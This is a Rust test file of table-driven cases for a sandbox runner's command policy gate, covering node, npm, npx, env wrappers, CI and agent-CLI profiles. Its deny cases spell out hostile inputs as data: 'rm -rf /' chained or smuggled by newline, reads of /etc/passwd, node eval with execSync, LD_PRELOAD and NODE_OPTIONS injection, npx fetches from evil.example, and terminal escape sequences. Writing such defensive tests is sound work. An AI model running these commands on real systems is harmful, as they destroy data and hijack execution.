//! Table-driven tests of the policy gate (`sandbox_run::policy::gate`).
//!
//! A fixture under `CARGO_TARGET_TMPDIR` (not /tmp: /tmp is world-writable, so the gate would
//! rightly refuse every program found below it) provides a fake system bin directory, a repo
//! with planted programs, and a world-writable directory. Each group of cases runs under one
//! rule set and one context (PATH and cwd). `{sys}`, `{repo}`, `{ww}` and `{root}` in a case
//! are replaced by the fixture's paths.

use std::ffi::{OsStr, OsString};
use std::fs;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use sandbox_run::policy::{found_path, gate, Context, Input, Outcome, Rules, Verdict};

/// A case's input: the `--command` form or the argv form.
#[derive(Debug, Clone, Copy)]
enum In {
    C(&'static str),
    A(&'static [&'static str]),
}
use In::{A, C};

const OK: Outcome = Outcome::Allowed;
const DENY: Outcome = Outcome::Denied;
const NF: Outcome = Outcome::NotFound;

type Case = (In, Outcome, &'static str);

// ---------------------------------------------------------------------------------------------
// Fixture

struct Fixture {
    root: PathBuf,
    sys: PathBuf,
    repo: PathBuf,
    ww: PathBuf,
}

const SYSTEM_PROGRAMS: &[&str] = &[
    "node", "npm", "npx", "env", "nice", "timeout", "xargs", "bash", "sh", "python3", "git",
    "make", "eslint", "claude", "codex",
];

fn write_exec(path: &Path, mode: u32) {
    fs::write(path, "#!/bin/sh\nexit 0\n").expect("write fixture program");
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("chmod fixture program");
}

fn mkdir(path: &Path, mode: u32) {
    fs::create_dir_all(path).expect("create fixture dir");
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("chmod fixture dir");
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(build_fixture)
}

fn build_fixture() -> Fixture {
    let base = Path::new(env!("CARGO_TARGET_TMPDIR"));
    // Leftovers of earlier runs of this test binary.
    if let Ok(entries) = fs::read_dir(base) {
        for entry in entries.flatten() {
            if entry
                .file_name()
                .to_string_lossy()
                .starts_with("gate-fixture-")
            {
                let _ = fs::remove_dir_all(entry.path());
            }
        }
    }
    let root = base.join(format!("gate-fixture-{}", std::process::id()));
    mkdir(&root, 0o755);
    let root = fs::canonicalize(&root).expect("canonical fixture root");

    let sys = root.join("sys/bin");
    mkdir(&sys, 0o755);
    for name in SYSTEM_PROGRAMS {
        write_exec(&sys.join(name), 0o755);
    }
    // A non-executable node earlier in PATH is skipped, like execvp does.
    mkdir(&root.join("noexec"), 0o755);
    write_exec(&root.join("noexec/node"), 0o644);

    let repo = root.join("repo");
    mkdir(&repo, 0o755);
    write_exec(&repo.join("node"), 0o755);
    mkdir(&repo.join("node_modules/.bin"), 0o755);
    write_exec(&repo.join("node_modules/.bin/eslint"), 0o755);
    write_exec(&repo.join("node_modules/.bin/node"), 0o755);
    write_exec(&repo.join("node_modules/.bin/claude"), 0o755);
    mkdir(&repo.join("bin"), 0o755);
    symlink(sys.join("node"), repo.join("bin/node")).expect("repo/bin/node symlink");
    write_exec(&repo.join("build.sh"), 0o755);
    mkdir(&repo.join("scripts"), 0o755);
    write_exec(&repo.join("scripts/test.sh"), 0o755);
    write_exec(&repo.join("notexec.sh"), 0o644);
    mkdir(&repo.join("sub"), 0o755);

    // World-writable directory with a node, a sub directory, and symlinks through it.
    let ww = root.join("ww");
    mkdir(&ww, 0o755);
    write_exec(&ww.join("node"), 0o755);
    mkdir(&ww.join("sub"), 0o755);
    write_exec(&ww.join("sub/node"), 0o755);
    symlink(sys.join("node"), ww.join("link")).expect("ww/link symlink");
    symlink(&sys, ww.join("binlink")).expect("ww/binlink symlink");
    fs::set_permissions(&ww, fs::Permissions::from_mode(0o777)).expect("chmod 777");
    // A repo symlink to the (exempt, in one group) world-writable node.
    mkdir(&repo.join("tools"), 0o755);
    symlink(ww.join("node"), repo.join("tools/node")).expect("repo/tools/node symlink");
    // A clean directory whose node is a symlink into the world-writable one.
    mkdir(&root.join("links"), 0o755);
    symlink(ww.join("link"), root.join("links/node")).expect("links/node symlink");
    mkdir(&root.join("outside"), 0o755);
    // A virtualenv in the repo: links leading out of it, a script, and links the gate refuses
    // (into a world-writable directory, through a link in one, to a file that is not a program).
    let venv = repo.join(".venv/bin");
    mkdir(&venv, 0o755);
    symlink(sys.join("python3"), venv.join("python3")).expect("venv python3");
    symlink("python3", venv.join("python")).expect("venv python");
    write_exec(&venv.join("pytest"), 0o755);
    symlink(ww.join("node"), venv.join("evil")).expect("venv evil");
    symlink(ww.join("link"), venv.join("wwlink")).expect("venv wwlink");
    symlink("/etc/passwd", venv.join("passwd")).expect("venv passwd");

    Fixture {
        root,
        sys,
        repo,
        ww,
    }
}

impl Fixture {
    fn expand(&self, s: &str) -> String {
        s.replace("{sys}", &self.sys.to_string_lossy())
            .replace("{repo}", &self.repo.to_string_lossy())
            .replace("{ww}", &self.ww.to_string_lossy())
            .replace("{root}", &self.root.to_string_lossy())
    }
}

// ---------------------------------------------------------------------------------------------
// Rule sets (mimicking the shipped profiles)

fn strs(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

const VALIDATE_WRAPPED: &[&str] = &[
    "node", "eslint", "jest", "mocha", "tsc", "vitest", "prettier", "c8", "nyc",
];
const NPM_SUBCOMMANDS: &[&str] = &[
    "test",
    "t",
    "tst",
    "run",
    "run-script",
    "ci",
    "exec",
    "x",
    "ls",
];

fn validate_rules() -> Rules {
    Rules {
        programs: strs(&["node", "npm", "npx"]),
        wrapped: strs(VALIDATE_WRAPPED),
        npm_subcommands: strs(NPM_SUBCOMMANDS),
        ..Rules::default()
    }
}

/// validate + env/nice/timeout/xargs as programs, and npm as a wrapped program.
fn env_rules() -> Rules {
    let mut rules = validate_rules();
    rules
        .programs
        .extend(strs(&["env", "nice", "timeout", "xargs"]));
    rules.wrapped.extend(strs(&["npm", "env"]));
    rules
}

fn ci_rules() -> Rules {
    Rules {
        programs: strs(&[
            "node", "npm", "npx", "bash", "sh", "make", "git", "python3", "env",
        ]),
        wrapped: strs(VALIDATE_WRAPPED),
        npm_subcommands: strs(NPM_SUBCOMMANDS),
        repo_scripts: true,
        ..Rules::default()
    }
}

/// validate + the world-writable node as an exact, trusted path.
fn exempt_rules(fx: &Fixture) -> Rules {
    let mut rules = validate_rules();
    rules.paths = vec![fx.ww.join("node")];
    rules
}

/// validate + the repo's virtualenv python, named in `paths` as it is written.
fn named_rules(fx: &Fixture) -> Rules {
    let mut rules = validate_rules();
    rules.paths = vec![fx.repo.join(".venv/bin/python")];
    rules
}

/// The shipped `adapter` profile's gate: agent CLIs whose arguments are free text (prompts).
/// Plus `bash` as a program, and `node` and `bash` in `free_text`, as a careless profile
/// might list them: the gate ignores them there.
fn adapter_rules() -> Rules {
    let loader = sandbox_run::profile::Loader { dirs: Vec::new() };
    let mut rules = loader
        .load("adapter")
        .expect("the built-in adapter profile")
        .gate;
    rules.programs.push("bash".into());
    rules.free_text.extend(strs(&["node", "bash"]));
    rules
}

/// A benchmark profile that allows inline code.
fn bench_rules() -> Rules {
    let mut rules = validate_rules();
    rules.node_options = strs(&["-e", "--eval"]);
    rules
}

// ---------------------------------------------------------------------------------------------
// Cases

/// validate profile, PATH = fixture system bin, cwd = repo.
const VALIDATE: &[Case] = &[
    // --- Seed 000: the examples it allows.
    (C("node test.js"), OK, "allowed"),
    (C("npm test"), OK, "allowed"),
    (C("npx jest"), OK, "allowed"),
    (C("node scripts/validate-modules.js ./src"), OK, "allowed"),
    (C("npx eslint src/"), OK, "allowed"),
    (C("node scripts/custom-check.js"), OK, "allowed"),
    (C("node scripts/validate.js"), OK, "allowed"),
    (C("npm run validate"), OK, "allowed"),
    (C("npm run unit-test"), OK, "allowed"),
    (C("npm run full-integration-test"), OK, "allowed"),
    (C("npm run slow-test"), OK, "allowed"),
    (C(r#"npm test -- --grep "a|b""#), OK, "allowed"),
    // The seed allows this because its operator check strips quotes; it is still `node -e`
    // (the seed's eval regex only looks at the start of the string): we deny it as node-eval.
    (C(r#"node -e 'console.log("a && b")'"#), DENY, "node-eval"),
    // The seed claims this is blocked ("the ; is outside quotes after stripping"); in a real
    // shell the `;` is inside double quotes, and here no shell runs at all: one literal
    // argument for test.js, so it is allowed.
    (C(r#"node test.js "--arg='; rm -rf /'""#), OK, "allowed"),
    // --- Seed 000: the examples it rejects.
    (C("bash script.sh"), DENY, "not-allowed"),
    (C("python test.py"), DENY, "not-allowed"),
    (C(r#"sh -c "npm test""#), DENY, "not-allowed"),
    (
        C(r#"node -e "$(cat /etc/passwd)""#),
        DENY,
        "command-substitution",
    ),
    (C("npm run `malicious`"), DENY, "command-substitution"),
    (
        C("node test.js --arg=$(whoami)"),
        DENY,
        "command-substitution",
    ),
    (
        C("node test.js --file=$(cat /etc/passwd)"),
        DENY,
        "command-substitution",
    ),
    (C("npm test && rm -rf /"), DENY, "shell-operator"),
    (C("node test.js | grep error"), DENY, "shell-operator"),
    (C("node test.js > /tmp/out.txt"), DENY, "shell-operator"),
    (C(r#"npm test; echo "done""#), DENY, "shell-operator"),
    (C(r#"node -e "process.exit(1)""#), DENY, "node-eval"),
    (C(r#"node --eval "require('fs')""#), DENY, "node-eval"),
    (C(r#"node -p "1+1""#), DENY, "node-eval"),
    (
        C(r#"node -e "require('child_process').execSync('rm -rf /')""#),
        DENY,
        "node-eval",
    ),
    (C("bash scripts/deploy.sh"), DENY, "not-allowed"),
    (C("bash scripts/custom-check.sh"), DENY, "not-allowed"),
    (
        C("bash scripts/check.sh && npm test"),
        DENY,
        "shell-operator",
    ),
    // --- Control characters (smuggling) in both forms.
    (C("npm test\nrm -rf /"), DENY, "control-character"),
    (C("npm test\r"), DENY, "control-character"),
    (C("npm\ttest"), DENY, "control-character"),
    (C("node t.js\0"), DENY, "control-character"),
    (C("node t.js \x1b[2J"), DENY, "control-character"),
    (C("node t.js \u{85}"), DENY, "control-character"),
    (C("node t.js \u{7f}"), DENY, "control-character"),
    (C("node 't.js\n'"), DENY, "control-character"),
    (C("node \"t.js\r\""), DENY, "control-character"),
    (A(&["npm", "test\nrm -rf /"]), DENY, "control-character"),
    (A(&["npm", "test\r"]), DENY, "control-character"),
    (A(&["node", "t.js\t"]), DENY, "control-character"),
    (A(&["node", "t\0.js"]), DENY, "control-character"),
    (A(&["node", "\x1b]0;title\x07"]), DENY, "control-character"),
    (A(&["node", "t.js", "\u{9b}31m"]), DENY, "control-character"),
    (A(&["node\n", "t.js"]), DENY, "control-character"),
    // --- node: eval-style options.
    (C("node --eval=1"), DENY, "node-eval"),
    (C("node --eval 1"), DENY, "node-eval"),
    (C("node -pe 1"), DENY, "node-eval"),
    (C("node -ep 1"), DENY, "node-eval"),
    (C("node --print 1"), DENY, "node-eval"),
    (C("node -r ./x.js t.js"), DENY, "node-eval"),
    (C("node --require=./x t.js"), DENY, "node-eval"),
    (C("node --require ./x t.js"), DENY, "node-eval"),
    (C("node --import ./x.mjs t.js"), DENY, "node-eval"),
    (
        C("node --import=data:text/javascript,1 t.js"),
        DENY,
        "node-eval",
    ),
    (C("node --loader ./l.mjs t.js"), DENY, "node-eval"),
    (
        C("node --experimental-loader=./l.mjs t.js"),
        DENY,
        "node-eval",
    ),
    (C("node --inspect t.js"), DENY, "node-eval"),
    (C("node --inspect-brk=0.0.0.0:9229 t.js"), DENY, "node-eval"),
    (C("node --inspect_brk t.js"), DENY, "node-eval"),
    (C("node --debug-port=9229 t.js"), DENY, "node-eval"),
    (C("node -"), DENY, "node-eval"),
    (C("node -i"), DENY, "node-eval"),
    (C("node --interactive"), DENY, "node-eval"),
    (C("node --env-file=.env t.js"), DENY, "node-eval"),
    (C("node --env_file=.env t.js"), DENY, "node-eval"),
    (
        C("node --experimental-policy=p.json t.js"),
        DENY,
        "node-eval",
    ),
    (C("node --openssl-config=x.cnf t.js"), DENY, "node-eval"),
    (C("node --snapshot-blob x.blob t.js"), DENY, "node-eval"),
    (C("node --build-snapshot t.js"), DENY, "node-eval"),
    (
        A(&["node", "-e", "require('fs').rmSync('/', {recursive: true})"]),
        DENY,
        "node-eval",
    ),
    (A(&["node", "--eval=1"]), DENY, "node-eval"),
    // --- node: other options, deny by default.
    (C("node --frobnicate t.js"), DENY, "node-option"),
    (C("node --test-reporter ./r.js --test"), DENY, "node-option"),
    (C("node --test-reporter=./r.js --test"), DENY, "node-option"),
    (
        C("node --max-old-space-size 4096 t.js"),
        DENY,
        "node-option",
    ),
    (C("node -cv t.js"), DENY, "node-option"),
    (
        C("node --experimental-network-imports t.js"),
        DENY,
        "node-option",
    ),
    (C("node"), DENY, "node-stdin"),
    (C("node --no-warnings"), DENY, "node-stdin"),
    (C("node --"), DENY, "node-stdin"),
    // --- node: legit.
    (C("node test.js -e x"), OK, "allowed"),
    (C("node --test"), OK, "allowed"),
    (C("node --test-reporter=spec --test"), OK, "allowed"),
    (C("node --test-reporter tap --test test/"), OK, "allowed"),
    (C("node --max-old-space-size=4096 t.js"), OK, "allowed"),
    (C("node --max_old_space_size=4096 t.js"), OK, "allowed"),
    (C("node --version"), OK, "allowed"),
    (C("node -v"), OK, "allowed"),
    (C("node -C development t.js"), OK, "allowed"),
    (C("node --conditions=dev t.js"), OK, "allowed"),
    (C("node --title -e t.js"), OK, "allowed"),
    (C("node --watch t.js"), OK, "allowed"),
    (C("node -c t.js"), OK, "allowed"),
    (C("node -- -e"), OK, "allowed"),
    (
        C("node --enable-source-maps --trace-warnings t.js"),
        OK,
        "allowed",
    ),
    (
        C("node --test --test-name-pattern 'adds up' test/"),
        OK,
        "allowed",
    ),
    (A(&["node", "t.js", "--grep", "a && b"]), OK, "allowed"),
    // --- Environment assignments in command position.
    (
        C("NODE_OPTIONS=--require=x node t.js"),
        DENY,
        "env-assignment",
    ),
    (
        A(&["NODE_OPTIONS=--require=x", "node", "t.js"]),
        DENY,
        "env-assignment",
    ),
    (C("LD_PRELOAD=/x.so npm test"), DENY, "env-assignment"),
    (C("env NODE_OPTIONS=x node t.js"), DENY, "not-allowed"),
    (C("npx NODE_OPTIONS=x eslint"), DENY, "env-assignment"),
    (
        C("npm exec -- NODE_OPTIONS=x eslint"),
        DENY,
        "env-assignment",
    ),
    // --- Program location.
    (C("./node t.js"), DENY, "program-in-repo"),
    (C("{repo}/node t.js"), DENY, "program-in-repo"),
    (C("node_modules/.bin/eslint src"), DENY, "program-in-repo"),
    (C("./build.sh"), DENY, "program-in-repo"),
    (C("{sys}/node t.js"), DENY, "not-allowed"),
    (C("/usr/bin/env node t.js"), DENY, "not-allowed"),
    (C("./missing t.js"), DENY, "not-allowed"),
    // --- Look-alikes and near misses.
    (C("n\u{43e}de t.js"), DENY, "not-allowed"),
    (C("\u{ff4e}ode t.js"), DENY, "not-allowed"),
    (C("node\u{200b} t.js"), DENY, "not-allowed"),
    (C("NODE t.js"), DENY, "not-allowed"),
    (C("nodejs t.js"), DENY, "not-allowed"),
    (C("node.exe t.js"), DENY, "not-allowed"),
    (C("npm-cli.js test"), DENY, "not-allowed"),
    (C("python3 test.py"), DENY, "not-allowed"),
    (C("git status"), DENY, "not-allowed"),
    // --- Empty, sizes, quoting.
    (C(""), DENY, "empty-command"),
    (C("     "), DENY, "empty-command"),
    (A(&[]), DENY, "empty-command"),
    (A(&[""]), DENY, "empty-command"),
    (A(&["", "t.js"]), DENY, "empty-command"),
    (C("'' t.js"), DENY, "empty-command"),
    (C("\"\""), DENY, "empty-command"),
    (C("node 'abc"), DENY, "unterminated-quote"),
    (C("node \"abc"), DENY, "unterminated-quote"),
    (C("node abc\\"), DENY, "unterminated-quote"),
    (C(r#"npm test -- --grep "a|b"#), DENY, "unterminated-quote"),
    // --- Shell syntax in the --command form.
    (C("node t.js $HOME"), DENY, "shell-expansion"),
    (C("node t.js '$HOME'"), OK, "allowed"),
    (C("node t.js \\$HOME"), OK, "allowed"),
    (C("node t.js \"$HOME\""), DENY, "shell-expansion"),
    (C("node t.js ${HOME}"), DENY, "shell-expansion"),
    (C("node t.js $1"), DENY, "shell-expansion"),
    (C("node t.js $'\\x41'"), DENY, "shell-expansion"),
    (C("node ~/t.js"), DENY, "shell-expansion"),
    (C("npx eslint src/*.js"), DENY, "shell-expansion"),
    (C("npx eslint 'src/**/*.js'"), OK, "allowed"),
    (C("npx eslint src/{a,b}.js"), DENY, "shell-expansion"),
    (C("npm test # run the tests"), DENY, "shell-syntax"),
    (C("node t.js 2>&1"), DENY, "shell-operator"),
    (C("node t.js &"), DENY, "shell-operator"),
    (C("(node t.js)"), DENY, "shell-operator"),
    (C("node t.js <in.txt"), DENY, "shell-operator"),
    (C("node t.js \"&&\" '|'"), OK, "allowed"),
    (C("node t.js \\;"), OK, "allowed"),
    (C("node t.js a\\|b"), OK, "allowed"),
    // --- Shell operators as argv words.
    (
        A(&["npm", "test", "&&", "rm", "-rf", "/"]),
        DENY,
        "shell-operator",
    ),
    (
        A(&["node", "t.js", "|", "grep", "x"]),
        DENY,
        "shell-operator",
    ),
    (A(&["node", "t.js", ">", "/tmp/x"]), DENY, "shell-operator"),
    (A(&["node", "t.js", "2>&1"]), DENY, "shell-operator"),
    (A(&["node", "t.js", ";"]), DENY, "shell-operator"),
    (A(&["node", "t.js", "$(id)"]), DENY, "command-substitution"),
    (A(&["node", "t.js", "`id`"]), DENY, "command-substitution"),
    (A(&["node", "t.js", "$HOME"]), OK, "allowed"),
    (A(&["npm", "test", "--", "--grep", "a|b"]), OK, "allowed"),
    (A(&["node", "scripts/validate.js", "./src"]), OK, "allowed"),
    // --- npx.
    (C("npx -c 'sh -c id'"), DENY, "npx-call"),
    (C("npx --call=x"), DENY, "npx-call"),
    (C("npx --call x"), DENY, "npx-call"),
    (C("npx -y -c x"), DENY, "npx-call"),
    (C("npx sh -c id"), DENY, "wrapped-not-allowed"),
    (C("npx bash"), DENY, "wrapped-not-allowed"),
    (C("npx github:evil/pkg"), DENY, "wrapped-not-allowed"),
    (C("npx ./x.js"), DENY, "wrapped-not-allowed"),
    (
        C("npx https://evil.example/x.tgz"),
        DENY,
        "wrapped-not-allowed",
    ),
    (C("npx evil-package"), DENY, "wrapped-not-allowed"),
    (C("npx eslint@file:../evil"), DENY, "wrapped-not-allowed"),
    (C("npx eslint@npm:evil"), DENY, "wrapped-not-allowed"),
    (C("npx -p evil eslint"), DENY, "wrapped-not-allowed"),
    (
        C("npx --package=github:x/y eslint"),
        DENY,
        "wrapped-not-allowed",
    ),
    (C("npx node -e x"), DENY, "node-eval"),
    (C("npx -- node -e x"), DENY, "node-eval"),
    (C("npx node@20 -r x t.js"), DENY, "node-eval"),
    (C("npx --shell=sh eslint"), DENY, "npx-option"),
    (C("npx --node-options=x eslint"), DENY, "npx-option"),
    (C("npx --frob eslint"), DENY, "npx-option"),
    (C("npx"), DENY, "wrapped-missing"),
    (C("npx -y"), DENY, "wrapped-missing"),
    (C("npx c8 node -e x"), DENY, "node-eval"),
    (C("npx c8 sh -c id"), DENY, "wrapped-not-allowed"),
    (C("npx nyc --require x mocha"), DENY, "wrapper-option"),
    (C("npx eslint ."), OK, "allowed"),
    (C("npx eslint@8 src"), OK, "allowed"),
    (C("npx -y eslint ."), OK, "allowed"),
    (C("npx --yes jest"), OK, "allowed"),
    (C("npx jest --coverage"), OK, "allowed"),
    (C("npx node t.js"), OK, "allowed"),
    (C("npx -p eslint eslint ."), OK, "allowed"),
    (C("npx --package=eslint@8 eslint src"), OK, "allowed"),
    (C("npx -- eslint ."), OK, "allowed"),
    (C("npx tsc --noEmit"), OK, "allowed"),
    (C("npx prettier --check ."), OK, "allowed"),
    (C("npx vitest run"), OK, "allowed"),
    (C("npx c8 --reporter=lcov mocha"), OK, "allowed"),
    (C("npx c8 -r text node t.js"), OK, "allowed"),
    (C("npx eslint --node-options=x -c y"), OK, "allowed"),
    // --- npm options.
    (C("npm --node-options=--require=x test"), DENY, "npm-option"),
    (C("npm test --node_options=x"), DENY, "npm-option"),
    (C("npm test --node-opt=x"), DENY, "npm-option"),
    (C("npm test -node-options=x"), DENY, "npm-option"),
    (C("npm test --NODE-OPTIONS=x"), DENY, "npm-option"),
    (C("npm --script-shell=/bin/sh test"), DENY, "npm-option"),
    (C("npm --script-shell /bin/sh test"), DENY, "npm-option"),
    (C("npm test --shell=bash"), DENY, "npm-option"),
    (C("npm --userconfig ./npmrc test"), DENY, "npm-option"),
    (C("npm --globalconfig=./npmrc test"), DENY, "npm-option"),
    (C("npm --prefix /etc test"), DENY, "npm-option"),
    (C("npm -C /etc test"), DENY, "npm-option"),
    (C("npm --prefix=.. test"), DENY, "npm-option"),
    (C("npm test --prefix=/tmp"), DENY, "npm-option"),
    (C("npm --prefix ./sub test"), OK, "allowed"),
    (C("npm --prefix=sub/new test"), OK, "allowed"),
    (C("npm --pre_id x test"), DENY, "npm-option"),
    (C("npm --frobnicate test"), DENY, "npm-option"),
    (C("npm --registry --prefix test"), DENY, "npm-option"),
    (C("npm --loglevel silent test"), OK, "allowed"),
    (C("npm -s test"), OK, "allowed"),
    (C("npm --silent run lint"), OK, "allowed"),
    (C("npm test -- --node-options=x"), OK, "allowed"),
    // --- npm subcommands.
    (C("npm run lint"), OK, "allowed"),
    (C("npm ci"), OK, "allowed"),
    (C("npm t"), OK, "allowed"),
    (C("npm tst"), OK, "allowed"),
    (C("npm run-script build"), OK, "allowed"),
    (C("npm ls"), OK, "allowed"),
    (C("npm run"), OK, "allowed"),
    (C("npm test -- --coverage"), OK, "allowed"),
    (C("npm --version"), OK, "allowed"),
    (C("npm -v"), OK, "allowed"),
    (C("npm"), OK, "allowed"),
    (C("npm publish"), DENY, "npm-subcommand"),
    (C("npm install evil"), DENY, "npm-subcommand"),
    (C("npm explore x -- sh"), DENY, "npm-subcommand"),
    (C("npm --json"), DENY, "npm-subcommand"),
    (C("npm -- exec sh"), DENY, "npm-subcommand"),
    (C("npm --registry x exec sh"), DENY, "wrapped-not-allowed"),
    // --- npm exec / npm x.
    (C("npm exec -- bash"), DENY, "wrapped-not-allowed"),
    (C("npm x -- sh"), DENY, "wrapped-not-allowed"),
    (C("npm exec -c 'eslint .'"), DENY, "npx-call"),
    (C("npm -c x exec"), DENY, "npx-call"),
    (C("npm exec --call=x"), DENY, "npx-call"),
    (C("npm exec eslint -c x"), DENY, "npx-call"),
    (
        C("npm exec --package=evil -- eslint"),
        DENY,
        "wrapped-not-allowed",
    ),
    (
        C("npm exec eslint --package=evil"),
        DENY,
        "wrapped-not-allowed",
    ),
    (C("npm exec -- node -e x"), DENY, "node-eval"),
    (C("npm exec node -- -e x"), DENY, "node-eval"),
    (C("npm exec node --title -- -e x"), DENY, "npx-option"),
    (C("npm exec -- npx sh"), DENY, "wrapped-not-allowed"),
    (C("npm exec"), DENY, "wrapped-missing"),
    (C("npm exec --workspace=a eslint"), DENY, "npx-option"),
    (C("npm exec -- eslint ."), OK, "allowed"),
    (C("npm exec eslint"), OK, "allowed"),
    (C("npm x jest"), OK, "allowed"),
    (C("npm exec --package=eslint -- eslint ."), OK, "allowed"),
    (C("npm exec -p eslint"), OK, "allowed"),
    (C("npm exec eslint src -- --fix"), OK, "allowed"),
    // --- Wrappers are not on the validate list.
    (C("env node t.js"), DENY, "not-allowed"),
    (C("timeout 10 npm test"), DENY, "not-allowed"),
    (C("nice node t.js"), DENY, "not-allowed"),
    (C("xargs eslint"), DENY, "not-allowed"),
];

/// validate + env/nice/timeout/xargs allowed as programs and npm/env as wrapped.
const ENV_ALLOWED: &[Case] = &[
    (C("env NODE_OPTIONS=x node t.js"), DENY, "env-assignment"),
    (C("env -i NODE_OPTIONS=x node t.js"), DENY, "env-assignment"),
    (C("env node t.js"), OK, "allowed"),
    (C("env -i node t.js"), OK, "allowed"),
    (C("env - node t.js"), OK, "allowed"),
    (C("env -u HOME node t.js"), OK, "allowed"),
    (C("env -- node t.js"), OK, "allowed"),
    (C("env -S 'node -e x'"), DENY, "wrapper-option"),
    (C("env -iS 'node -e x'"), DENY, "wrapper-option"),
    (C("env --split-string=x node"), DENY, "wrapper-option"),
    (C("env --split x"), DENY, "wrapper-option"),
    (C("env --frob node t.js"), DENY, "wrapper-option"),
    (C("env node -e x"), DENY, "node-eval"),
    (C("env bash"), DENY, "wrapped-not-allowed"),
    (C("env python3 x.py"), DENY, "wrapped-not-allowed"),
    (C("env"), DENY, "wrapped-missing"),
    (C("env -i"), DENY, "wrapped-missing"),
    (C("env ./node t.js"), DENY, "program-in-repo"),
    (C("env npm exec -- bash"), DENY, "wrapped-not-allowed"),
    (C("env npm --node-options=x test"), DENY, "npm-option"),
    (C("env npm test"), OK, "allowed"),
    (C("env env node t.js"), OK, "allowed"),
    (
        C("env env env env env env env env env env node t.js"),
        DENY,
        "too-deep",
    ),
    (C("timeout 10 npm test"), OK, "allowed"),
    (C("timeout -s KILL 5m npm test"), OK, "allowed"),
    (C("timeout 10s node -e x"), DENY, "node-eval"),
    (C("timeout node t.js"), DENY, "wrapper-option"),
    (C("timeout 10 sh"), DENY, "wrapped-not-allowed"),
    (C("nice -n 5 node t.js"), OK, "allowed"),
    (C("nice -5 node t.js"), OK, "allowed"),
    (C("nice node -r x t.js"), DENY, "node-eval"),
    (C("xargs eslint"), OK, "allowed"),
    (C("xargs -0 -n 1 eslint"), OK, "allowed"),
    (C("xargs -a args.txt eslint"), OK, "allowed"),
    (C("xargs node t.js"), DENY, "wrapped-not-allowed"),
    (C("xargs -i eslint"), DENY, "wrapper-option"),
    (C("xargs"), DENY, "wrapped-missing"),
    (C("npx env node -e x"), DENY, "node-eval"),
];

/// ci-like profile: shells, make, git, python3, env; the repo's own scripts.
const CI: &[Case] = &[
    (C("python3 test.py"), OK, "allowed"),
    (C("python test.py"), DENY, "not-allowed"),
    (C("bash -c 'npm test'"), OK, "allowed"),
    (C("bash script.sh"), OK, "allowed"),
    (C("sh -c id"), OK, "allowed"),
    (C("git status"), OK, "allowed"),
    (C("make test"), OK, "allowed"),
    (C("./build.sh"), OK, "allowed"),
    (C("scripts/test.sh --fast"), OK, "allowed"),
    (C("{repo}/build.sh"), OK, "allowed"),
    (C("./node t.js"), OK, "allowed"),
    (C("./node -e x"), DENY, "node-eval"),
    (C("./notexec.sh"), DENY, "not-allowed"),
    (C("./missing.sh"), NF, "program-not-found"),
    (C("/etc/passwd"), DENY, "not-allowed"),
    (C("{ww}/node t.js"), DENY, "not-allowed"),
    (C("cargo test"), DENY, "not-allowed"),
    (C("./build.sh; rm -rf /"), DENY, "shell-operator"),
    (C("NODE_OPTIONS=x ./build.sh"), DENY, "env-assignment"),
    (C("env node t.js"), OK, "allowed"),
    (C("env bash"), DENY, "wrapped-not-allowed"),
    (C("npm test"), OK, "allowed"),
    // a virtualenv: links in the repo leading out are the repo's own programs
    (C(".venv/bin/python -m pytest"), OK, "allowed"),
    (C("{repo}/.venv/bin/python3 -m pytest -q"), OK, "allowed"),
    (C(".venv/bin/pytest -q"), OK, "allowed"),
    (C(".venv/bin/evil t.js"), DENY, "program-world-writable"),
    (C(".venv/bin/wwlink t.js"), DENY, "program-world-writable"),
    (C(".venv/bin/passwd"), DENY, "not-allowed"),
];

/// A multi-line markdown prompt, as agent runners pass it: one argv word.
const PROMPT: &str = "# Task\n\nFix the failing test in `src/lib.rs`:\n\n```sh\nnpm test -- --grep \"a|b\" && echo $(date)\n```\n\tIndented; CR\r\nThen run `cargo test` | tee log > out; done.";

/// adapter-like: free text in the arguments of the agent CLIs (argv form only).
const ADAPTER: &[Case] = &[
    (A(&["claude", "-p", PROMPT]), OK, "allowed"),
    (
        A(&["claude", "--print", "--output-format", "json", PROMPT]),
        OK,
        "allowed",
    ),
    (A(&["codex", "exec", "line one\nline two"]), OK, "allowed"),
    (
        A(&["claude", "-p", "a", "&&", "b", "|", "c", ";"]),
        OK,
        "allowed",
    ),
    (A(&["claude", "-p", "$(rm -rf /)"]), OK, "allowed"),
    // terminal control characters other than newline, tab and CR stay refused
    (
        A(&["claude", "-p", "hidden\u{1b}[8mtext"]),
        DENY,
        "control-character",
    ),
    (
        A(&["claude", "-p", "osc\u{1b}]52;c;aGk=\u{7}"]),
        DENY,
        "control-character",
    ),
    (A(&["claude", "-p", "del\u{7f}"]), DENY, "control-character"),
    (
        A(&["claude", "-p", "c1\u{9b}2J"]),
        DENY,
        "control-character",
    ),
    (A(&["claude", "-p", "bell\u{7}"]), DENY, "control-character"),
    // argv[0] itself is never free text
    (A(&["claude`x`", "-p", "x"]), DENY, "command-substitution"),
    // not in free_text: every lexical rule
    (
        A(&["git", "commit", "-m", PROMPT]),
        DENY,
        "control-character",
    ),
    (
        A(&["git", "commit", "-m", "use `x`"]),
        DENY,
        "command-substitution",
    ),
    (
        A(&["npm", "test", "--", "--grep", "`x`"]),
        DENY,
        "command-substitution",
    ),
    (A(&["npm", "test", "&&", "x"]), DENY, "shell-operator"),
    (
        A(&["npx", "claude", "-p", "a\nb"]),
        DENY,
        "control-character",
    ),
    // in free_text, but node and shells read code in their arguments: ignored there
    (A(&["node", "t.js", "a\nb"]), DENY, "control-character"),
    (A(&["node", "-e", "x"]), DENY, "node-eval"),
    (
        A(&["bash", "-c", "echo $(id)"]),
        DENY,
        "command-substitution",
    ),
    // the other rules still apply to a free-text program
    (
        A(&["NODE_OPTIONS=x", "claude", "-p", "a"]),
        DENY,
        "env-assignment",
    ),
    (
        A(&["{sys}/claude", "-p", "a\nb"]),
        DENY,
        "control-character",
    ),
    (A(&["{sys}/claude", "-p", "x"]), DENY, "not-allowed"),
    // the command form is a string meant for a shell: its rules stay
    (C("claude -p 'a `b`'"), DENY, "command-substitution"),
    (C("claude -p 'x' && y"), DENY, "shell-operator"),
];

/// A profile that allows inline code (benchmarks).
